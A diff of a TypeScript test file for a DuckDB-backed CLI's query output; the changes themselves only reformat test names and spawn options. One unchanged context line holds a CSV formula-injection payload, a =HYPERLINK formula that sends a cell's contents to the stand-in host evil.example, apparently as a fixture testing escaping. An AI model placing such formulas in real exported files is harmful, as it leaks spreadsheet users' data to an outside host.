@@ -65,7 +65,7 @@ describe('query CSV output', () => {
     expect(result.stdout.split('\n')[1]).toBe(`"=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",-5,-12.50,-5`);
   });
 
-  it('fails with DuckDB\'s reason, exit 2, when the query fails after rows were printed', async () => {
+  it("fails with DuckDB's reason, exit 2, when the query fails after rows were printed", async () => {
     const failing = `SELECT CASE WHEN range < 300000 THEN range::VARCHAR ELSE error('boom at ' || range) END AS v FROM range(600000)`;
     const result = await apilake(['query', failing, '--format', 'csv', '--lake', join(cwd, 'no-lake')], { cwd });
     expect(result.code).toBe(2);
@@ -154,7 +154,10 @@ describe('query --out', () => {
   it('fails if a file appears at the path while the query runs, and leaves that file as it is', async () => {
     const dir = await mkdtemp(join(cwd, 'out', 'race-'));
     const out = join(dir, 'result.csv');
-    const child = spawn(process.execPath, [BIN, 'query', `SELECT range AS id, repeat('x', 40) AS pad FROM range(3000000)`, '--format', 'csv', '--out', out], { cwd, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [BIN, 'query', `SELECT range AS id, repeat('x', 40) AS pad FROM range(3000000)`, '--format', 'csv', '--out', out], {
+      cwd,
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     let stderr = '';
     child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
     const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
@@ -173,7 +176,10 @@ describe('query --out', () => {
   ] as const)('removes the temporary %s file when stopped by %s midway, and writes nothing', async (format, signal, code) => {
     const dir = await mkdtemp(join(cwd, 'out', 'stop-'));
     const out = join(dir, `result.${format}`);
-    const child = spawn(process.execPath, [BIN, 'query', `SELECT range AS id, repeat('x', 40) AS pad FROM range(30000000)`, '--format', format, '--out', out], { cwd, stdio: ['ignore', 'pipe', 'pipe'] });
+    const child = spawn(process.execPath, [BIN, 'query', `SELECT range AS id, repeat('x', 40) AS pad FROM range(30000000)`, '--format', format, '--out', out], {
+      cwd,
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
     let stderr = '';
     child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
     const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) => child.on('close', (c, s) => resolve({ code: c, signal: s })));
